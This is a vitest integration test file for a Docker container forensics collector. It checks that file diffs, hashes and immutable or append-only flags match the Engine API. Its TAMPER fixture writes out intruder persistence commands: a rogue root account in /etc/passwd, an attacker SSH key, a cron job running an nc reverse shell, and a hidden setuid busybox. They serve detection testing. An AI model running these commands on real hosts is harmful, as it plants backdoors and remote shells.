import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ContainerEvidenceSchema } from '@shared/domain/evidence-set.js';
import { collectContainerEvidence } from '../../../electron/engine/collect/container-evidence.js';
import { collectEngineEvidence } from '../../../electron/engine/collect/engine-evidence.js';
import { mapApiChanges } from '../../../electron/engine/collect/file-changes.js';
import { isCriticalPath } from '../../../electron/engine/collect/critical-files.js';
import { forgetImageBaselines } from '../../../electron/engine/collect/image-baselines.js';
import Docker from 'dockerode';
import { docker, removeSuite, runContainer } from '../../helpers/docker.js';
import { waitForExit, waitForFile } from './wait.js';

const SUITE = 'collect-files';
const ATTRS = 'stowaway-test/attrs:1';

/** Persistence an intruder leaves: an extra root account, an ssh key, a cron job, a removed file. */
const TAMPER = [
  'echo "evil:x:0:0::/root:/bin/sh" >> /etc/passwd',
  'mkdir -p /root/.ssh /etc/cron.d',
  'echo "ssh-ed25519 AAAAC3Nza attacker@c2" > /root/.ssh/authorized_keys',
  'printf "* * * * * root nc 127.0.0.1 4444 -e /bin/sh\\n" > /etc/cron.d/evil',
  'rm /etc/group',
  'cp /bin/busybox /tmp/.hidden-tool && chmod 4755 /tmp/.hidden-tool',
].join(' && ');

describe('file collectors (host-side layers vs Engine API)', () => {
  let running = '';
  let stopped = '';
  let attrs = '';
  let lockedStopped = '';
  let clean = '';
  let mounted = '';
  beforeAll(async () => {
    await removeSuite(SUITE);
    // A host binary bind-mounted where none was: the engine leaves an empty placeholder in the container's layer.
    mounted = (
      await runContainer({
        suite: SUITE,
        name: `sw-col-mounted-${process.pid}`,
        hostConfig: { Binds: ['/bin/busybox:/usr/local/bin/tool:ro'], NetworkMode: 'none' },
      })
    ).id;
    clean = (await runContainer({ suite: SUITE, name: `sw-col-clean-${process.pid}` })).id;
    running = (
      await runContainer({
        suite: SUITE,
        name: `sw-col-files-${process.pid}`,
        cmd: ['sh', '-c', `${TAMPER} && touch /tmp/ready && sleep 3600`],
      })
    ).id;
    stopped = (await runContainer({ suite: SUITE, name: `sw-col-stopped-${process.pid}`, cmd: ['sh', '-c', TAMPER] }))
      .id;
    attrs = (
      await runContainer({
        suite: SUITE,
        image: ATTRS,
        name: `sw-col-attrs-${process.pid}`,
        hostConfig: { CapAdd: ['LINUX_IMMUTABLE'] },
        cmd: [
          'sh',
          '-c',
          'echo keep > /tmp/imm && chattr +i /tmp/imm && echo log > /tmp/app && chattr +a /tmp/app && touch /tmp/ready && sleep 3600',
        ],
      })
    ).id;
    // Locks files and exits: the overlay is unmounted, so only the upper layer remains to read the flags from.
    lockedStopped = (
      await runContainer({
        suite: SUITE,
        image: ATTRS,
        name: `sw-col-locked-stopped-${process.pid}`,
        hostConfig: { CapAdd: ['LINUX_IMMUTABLE'] },
        cmd: [
          'sh',
          '-c',
          'mkdir -p /etc/cron.d && echo "* * * * * root /tmp/.x" > /etc/cron.d/keep && chattr +i /etc/cron.d/keep && echo log > /tmp/app && chattr +a /tmp/app && echo plain > /tmp/plain',
        ],
      })
    ).id;
    await Promise.all([
      waitForFile(running, '/tmp/ready'),
      waitForExit(stopped),
      waitForFile(attrs, '/tmp/ready'),
      waitForExit(lockedStopped),
    ]);
  }, 60_000);
  afterAll(() => removeSuite(SUITE));

  it('reads the diff from the upper dir exactly as the Engine API reports it, with hashes and flags', async () => {
    const ev = ContainerEvidenceSchema.parse(
      await collectContainerEvidence(docker, running, { engineId: 'local', local: true }),
    );
    expect(ev.access).toBe('host');
    const api = mapApiChanges(await docker.getContainer(running).changes());
    const asMap = (l: { path: string; kind: string }[]) => Object.fromEntries(l.map((c) => [c.path, c.kind]));
    expect(asMap(ev.files)).toEqual(asMap(api));
    const byPath = new Map(ev.files.map((f) => [f.path, f]));
    expect(byPath.get('/etc/passwd')).toMatchObject({ kind: 'changed' });
    expect(byPath.get('/etc/group')).toMatchObject({ kind: 'deleted' });
    expect(byPath.get('/root/.ssh/authorized_keys')).toMatchObject({ kind: 'added' });
    expect(byPath.get('/tmp/.hidden-tool')!.flags).toEqual(
      expect.arrayContaining(['elf', 'setuid', 'executable', 'hidden']),
    );
    expect(byPath.get('/tmp/.hidden-tool')!.sha256).toMatch(/^[0-9a-f]{64}$/);
    expect(ev.artifacts.some((a) => a.kind === 'changes' && a.sourceCall.startsWith('host:'))).toBe(true);
  });

  it('leaves out of the diff the placeholders the engine made for its mounts, which the container never wrote', async () => {
    const raw = mapApiChanges(await docker.getContainer(mounted).changes());
    expect(raw.map((f) => f.path)).toContain('/usr/local/bin/tool');
    for (const local of [true, false]) {
      const ev = await collectContainerEvidence(docker, mounted, { engineId: 'local', local });
      expect(ev.access).toBe(local ? 'host' : 'api');
      expect(ev.files.map((f) => f.path)).not.toContain('/usr/local/bin/tool');
      expect(ev.files.map((f) => f.path)).toContain('/usr/local/bin');
    }
  });

  it('reads critical files with the hash of the image version beside the changed one', async () => {
    const ev = await collectContainerEvidence(docker, running, { engineId: 'local', local: true });
    const passwd = ev.fileContents.find((c) => c.path === '/etc/passwd')!;
    expect(passwd.text).toContain('evil:x:0:0');
    expect(passwd.imageSha256).toMatch(/^[0-9a-f]{64}$/);
    expect(passwd.imageSha256).not.toBe(passwd.sha256);
    const shadow = ev.fileContents.find((c) => c.path === '/etc/shadow')!;
    expect(shadow.imageSha256).toBe(shadow.sha256);
    expect(ev.fileContents.find((c) => c.path === '/root/.ssh/authorized_keys')?.text).toContain('attacker@c2');
    expect(ev.fileContents.find((c) => c.path === '/etc/cron.d/evil')?.text).toContain('nc 127.0.0.1 4444');
    expect(ev.fileContents.some((c) => c.path === '/etc/group')).toBe(false);
  });

  it('gives the same contents through the archive endpoint when host-side reads are off', async () => {
    const host = await collectContainerEvidence(docker, running, { engineId: 'local', local: true });
    const api = await collectContainerEvidence(docker, running, { engineId: 'local', local: false });
    expect(api.access).toBe('api');
    expect(api.processes.host?.source).toMatch(/top/);
    const sha = (ev: typeof api, p: string) => ev.fileContents.find((c) => c.path === p)?.sha256;
    for (const p of ['/etc/passwd', '/etc/shadow', '/root/.ssh/authorized_keys', '/etc/cron.d/evil'])
      expect(sha(api, p), p).toBe(sha(host, p));
    expect(api.files.find((f) => f.path === '/etc/passwd')?.sha256).toBe(sha(host, '/etc/passwd'));
    expect(api.artifacts.some((a) => a.sourceCall.includes('/archive?path=/etc'))).toBe(true);
  });

  it('reads untouched files once per image through the archive endpoint and still sees each container changes', async () => {
    const engine = { id: 'local', name: 'local', endpoint: 'unix:///var/run/docker.sock', local: false };
    for (const order of [
      [clean, running],
      [running, clean],
    ]) {
      const api = await collectEngineEvidence(docker, {
        engine,
        local: false,
        concurrency: 1,
        containerIds: order,
        since: '1m',
      });
      const host = await collectEngineEvidence(docker, {
        engine: { ...engine, local: true },
        local: true,
        containerIds: order,
        since: '1m',
      });
      for (const id of order) {
        const a = api.containers.find((c) => c.container.id === id)!;
        const h = host.containers.find((c) => c.container.id === id)!;
        // Remote collection keeps extras to persistence directories; the critical files must match exactly.
        const pick = (ev: typeof a) =>
          ev.fileContents
            .filter((c) => isCriticalPath(c.path))
            .map((c) => [c.path, c.sha256])
            .sort();
        expect(pick(a), id === clean ? 'clean' : 'tampered').toEqual(pick(h));
      }
      expect(api.containers.find((c) => c.container.id === running)!.fileContents.map((c) => c.path)).toContain(
        '/etc/cron.d/evil',
      );
      const tampered = api.containers
        .find((c) => c.container.id === running)!
        .fileContents.find((c) => c.path === '/etc/passwd')!;
      const untouched = api.containers
        .find((c) => c.container.id === clean)!
        .fileContents.find((c) => c.path === '/etc/passwd')!;
      expect(tampered.text).toContain('evil:x:0:0');
      expect(untouched.text).not.toContain('evil');
      // The image version comes from the shared read when the clean container went first.
      if (order[0] === clean) expect(tampered.imageSha256).toBe(untouched.sha256);
      const calls = api.containers.flatMap((c) => c.artifacts.filter((x) => x.kind === 'archive'));
      expect(calls.length).toBeGreaterThan(0);
    }
  });

  it("reads an image's untouched files once per process: a later scan reads only what its containers changed", async () => {
    forgetImageBaselines();
    const engine = { id: 'local', name: 'local', endpoint: 'unix:///var/run/docker.sock', local: false };
    // The same daemon through a client of our own, counting the archive calls it makes.
    const counted = new Docker({ socketPath: (docker.modem as unknown as { socketPath: string }).socketPath });
    let archives = 0;
    const modem = counted.modem as unknown as { dial: (o: { path?: string }, cb: unknown) => unknown };
    const dial = modem.dial.bind(modem);
    modem.dial = (o, cb) => {
      if (/\/archive\?/.test(o.path ?? '')) archives++;
      return dial(o, cb);
    };
    const scan = async () => {
      archives = 0;
      const ev = await collectEngineEvidence(counted, {
        engine,
        local: false,
        containerIds: [clean, running],
        since: '1m',
      });
      return {
        calls: archives,
        imageOfPasswd: ev.containers
          .find((c) => c.container.id === running)
          ?.fileContents.find((f) => f.path === '/etc/passwd')?.imageSha256,
        files: ev.containers.map((c) =>
          c.fileContents
            .filter((f) => isCriticalPath(f.path))
            .map((f) => [f.path, f.sha256])
            .sort(),
        ),
      };
    };
    const first = await scan();
    const second = await scan();
    expect(second.files).toEqual(first.files);
    expect(second.calls).toBeLessThan(first.calls);
    // Only the tampered container's own changed critical files are read again, and the image's hash comes with them.
    expect(second.calls).toBeGreaterThan(0);
    expect(second.imageOfPasswd).toMatch(/^[0-9a-f]{64}$/);
  });

  it('collects a stopped container from its layers and through the archive endpoint', async () => {
    for (const local of [true, false]) {
      const ev = await collectContainerEvidence(docker, stopped, { engineId: 'local', local });
      expect(ev.container.state).toBe('exited');
      expect(ev.processes.host).toBeUndefined();
      expect(ev.files.map((f) => f.path)).toContain('/etc/cron.d/evil');
      expect(ev.fileContents.find((c) => c.path === '/etc/passwd')?.text, `local=${local}`).toContain('evil:x:0:0');
      expect(ev.errors).toEqual([]);
    }
  });

  it('sees immutable and append-only flags set inside the container', async () => {
    const ev = await collectContainerEvidence(docker, attrs, { engineId: 'local', local: true });
    const flags = (p: string) => ev.files.find((f) => f.path === p)?.flags ?? [];
    expect(flags('/tmp/imm')).toContain('immutable');
    expect(flags('/tmp/app')).toContain('append-only');
    expect(flags('/tmp/ready')).not.toContain('immutable');
    expect(ev.artifacts.some((a) => a.kind === 'attrs')).toBe(true);
  });

  it('keeps the flags of unchanged files between engine scans, and reads a file again once chattr changed it', async () => {
    const c = await runContainer({
      suite: SUITE,
      image: ATTRS,
      name: `sw-col-reflag-${process.pid}`,
      hostConfig: { CapAdd: ['LINUX_IMMUTABLE'] },
      cmd: ['sh', '-c', 'mkdir -p /srv && echo v1 > /srv/app.conf && touch /tmp/ready && sleep 3600'],
    });
    await waitForFile(c.id, '/tmp/ready');
    // Outside the window in which a coarse ctime could still hide a change, so the first read is kept.
    await new Promise((r) => setTimeout(r, 2200));
    const engine = { id: 'local', name: 'local', endpoint: 'unix:///var/run/docker.sock', local: true };
    const scan = async () => {
      const ev = await collectEngineEvidence(docker, { engine, local: true, containerIds: [c.id], since: '1m' });
      const mine = ev.containers.find((x) => x.container.id === c.id)!;
      return {
        flags: mine.files.find((f) => f.path === '/srv/app.conf')?.flags ?? [],
        attrs: mine.artifacts.filter((a) => a.kind === 'attrs').map((a) => a.sourceCall),
      };
    };
    const first = await scan();
    expect(first.flags).not.toContain('immutable');
    expect(first.attrs).toEqual([expect.not.stringContaining('earlier run')]);
    const second = await scan();
    expect(second.flags).toEqual(first.flags);
    expect(second.attrs).toEqual([expect.stringMatching(/lines from an earlier run, inode unchanged/)]);
    // chattr moves the inode's ctime, so the next scan reads this file's flags again.
    const exec = await c.exec({ Cmd: ['chattr', '+i', '/srv/app.conf'], AttachStdout: true, AttachStderr: true });
    const stream = await exec.start({});
    await new Promise((r) => stream.on('end', r).resume());
    expect((await exec.inspect()).ExitCode).toBe(0);
    const third = await scan();
    expect(third.flags).toContain('immutable');
  }, 30_000);

  it('sees the flags of a stopped container in the upper layer, and names the missing tool when it cannot', async () => {
    const ev = await collectContainerEvidence(docker, lockedStopped, { engineId: 'local', local: true });
    expect(ev.container.state).toBe('exited');
    const flags = (p: string) => ev.files.find((f) => f.path === p)?.flags ?? [];
    expect(flags('/etc/cron.d/keep')).toContain('immutable');
    expect(flags('/tmp/app')).toContain('append-only');
    expect(flags('/tmp/plain')).not.toContain('immutable');
    expect(ev.artifacts.some((a) => a.kind === 'attrs' && a.sourceCall.startsWith('getfattr'))).toBe(true);
    expect(ev.errors).toEqual([]);

    const path = process.env.PATH;
    process.env.PATH = '/nonexistent';
    try {
      const blind = await collectContainerEvidence(docker, lockedStopped, { engineId: 'local', local: true });
      expect(blind.errors.find((e) => e.call === 'host:getfattr')?.message).toMatch(/getfattr is not installed/);
      expect(blind.files.find((f) => f.path === '/etc/cron.d/keep')?.flags ?? []).not.toContain('immutable');
    } finally {
      process.env.PATH = path;
    }
  });

  it('reads the flags with the container own lsattr only when exec is allowed and the host cannot', async () => {
    const plain = await collectContainerEvidence(docker, attrs, { engineId: 'local', local: false });
    expect(plain.files.find((f) => f.path === '/tmp/imm')?.flags ?? []).not.toContain('immutable');
    const viaExec = await collectContainerEvidence(docker, attrs, { engineId: 'local', local: false, exec: true });
    expect(viaExec.files.find((f) => f.path === '/tmp/imm')?.flags).toContain('immutable');
    expect(viaExec.files.find((f) => f.path === '/tmp/app')?.flags).toContain('append-only');
  });
});
